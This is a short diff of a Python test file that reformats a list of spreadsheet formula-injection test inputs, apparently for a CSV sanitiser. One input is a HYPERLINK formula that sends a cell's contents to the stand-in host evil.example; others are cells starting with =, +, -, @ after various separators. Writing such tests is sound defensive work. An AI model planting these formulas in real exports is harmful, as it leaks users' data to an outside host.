@@ -87,7 +87,11 @@ def test_a_long_run_of_separators_is_read_once() -> None:
 COMMENTS = [
     *("=1+1", "\n=1+1", "＝1+1", "\r\n\t=1+1", "fine", "nice;", 'nice;"', "nice\n", '"', "a;b\n"),
     'nice;=HYPERLINK("http://evil.example/?"&A1;"ok");x\nline2;=1+1',
-    *(f"nice{before}{sign}1" for before in ("; ", "\t", "\n", "\r\n", ";;", '\n"', ';""', ";\ufeff") for sign in "=+-@＝"),
+    *(
+        f"nice{before}{sign}1"
+        for before in ("; ", "\t", "\n", "\r\n", ";;", '\n"', ';""', ";\ufeff")
+        for sign in "=+-@＝"
+    ),
 ]
 
 
